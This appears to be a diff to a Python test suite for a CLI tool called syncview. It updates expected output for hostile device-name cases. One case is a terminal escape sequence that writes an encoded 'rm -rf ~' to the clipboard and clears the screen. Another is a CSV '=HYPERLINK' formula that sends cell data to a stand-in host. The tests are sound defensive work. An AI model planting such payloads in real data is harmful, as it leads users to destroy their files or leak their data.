@@ -598,12 +598,13 @@ CASES: tuple[Case, ...] = (
     Case("escape-sequences", "remote data: a device name holding terminal escape sequences (OSC 52 clipboard "
          "write, clear screen)",
          "syncview resources --filter evil", _escapes_on_screen,
-         r"3   EVIL-\x1b]52;c;cm0gLXJmIH4=\x07-PC\x1b[2J  Device  Not Synced  —             Halo Client 01  just now",
+         r"3   EVIL-\x1b]52;c;cm0gLXJmIH4=\x07-PC\x1b[2J  Device  Not Synced  no client  —             Halo Client 01  "
+         "just now",
          code=0, survivable=True),
     Case("csv-formula", "remote data: a device name that is a spreadsheet formula (`=HYPERLINK(...)`)",
          "syncview export --format csv --filter hyperlink", _formula_in_csv,
          ('4,1,device,1002,"\'=HYPERLINK(""http://x.test/?""&A1,""open"")",not_synced,,,,Halo Client '
-          "01,,,<time>,false,1,,"), code=0, survivable=True),
+          "01,,,<time>,false,1,,,,its remote company matches no local client,no_client"), code=0, survivable=True),
     Case("huge-name", "remote data: a device name of 100 000 characters",
          "syncview resources --filter huge", _huge_name_on_screen,
          "5   HUGE-" + "X" * 127 + "…  Device  Not Synced  —             Halo Client 01  just now",
